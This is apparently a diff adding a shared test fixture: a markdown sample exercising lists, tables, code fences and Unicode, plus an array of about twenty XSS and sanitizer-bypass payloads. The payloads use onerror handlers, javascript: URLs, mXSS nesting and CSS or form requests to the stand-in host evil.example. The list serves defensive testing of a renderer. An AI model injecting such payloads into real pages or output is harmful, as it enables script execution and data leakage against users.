@@ -1,0 +1,76 @@
+// Texts that several tests use.
+
+export const DOCUMENT = `# A title
+
+A paragraph with **bold**, *emphasis*, \`code\`, ~~gone~~ and a [link](https://example.org/a_(b)).
+It goes on here.
+
+1. one
+
+2. two with a
+   second line
+
+   and a paragraph
+3. three
+
+- a
+  - nested
+  - list
+- [x] done
+- [ ] to do
+
+* another list
+
+> a quotation
+> with **two** lines
+
+| a | b |
+|---|--:|
+| 1 | 2 |
+| 3 | 4 |
+
+---
+
+\`\`\`java
+record Point(double x, double y) {}
+
+// after an empty line
+\`\`\`
+
+~~~~text
+\`\`\`
+not the end
+~~~
+~~~~
+
+Title of the second kind
+------------------------
+
+Name: ñandú 🏃 日本語
+
+The end.
+`;
+
+/** What a model might write to run, load or disguise something. Each calls `alert` or asks `evil.example` if it succeeds. */
+export const HOSTILE = [
+  '<img src=x onerror=alert(1)>',
+  '<script>alert(1)</script>',
+  '<svg onload=alert(1)><script>alert(1)</script></svg>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
+  '<style>*{background:url(http://evil.example/a)}</style>',
+  '<p style="background:url(http://evil.example/b)">x</p>',
+  '<form action="http://evil.example/c" id="input"><input name="body"><button>go</button></form>',
+  '<iframe src="javascript:alert(1)" srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="http://evil.example/d"></object><embed src="http://evil.example/e"><link rel=stylesheet href="http://evil.example/f">',
+  '<a href="javascript:alert(1)" id="send" name="input">x</a> [y](javascript:alert(1)) [z](  JaVascript:alert(1) )',
+  '[w](data:text/html,<script>alert(1)</script>) <javascript:alert(1)> <data:text/html,x>',
+  '![i](http://evil.example/g.png) ![j](http://evil.example/h.png "onerror=alert(1)") <img srcset="http://evil.example/i 1x">',
+  '<video poster="http://evil.example/j"><source src="http://evil.example/k" onerror="alert(1)"></video>',
+  '<details open ontoggle=alert(1)><summary>x</summary></details>',
+  '[a](https://example.org "x" onmouseover="alert(1)) [b](https://example.org/"onclick="alert(1)")',
+  '```"><img src=x onerror=alert(1)>\n</code></pre><img src=x onerror=alert(1)>\n```',
+  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
+  '<kbd><img src=x onerror=alert(1) </kbd><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example/l">',
+  '&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;',
+];
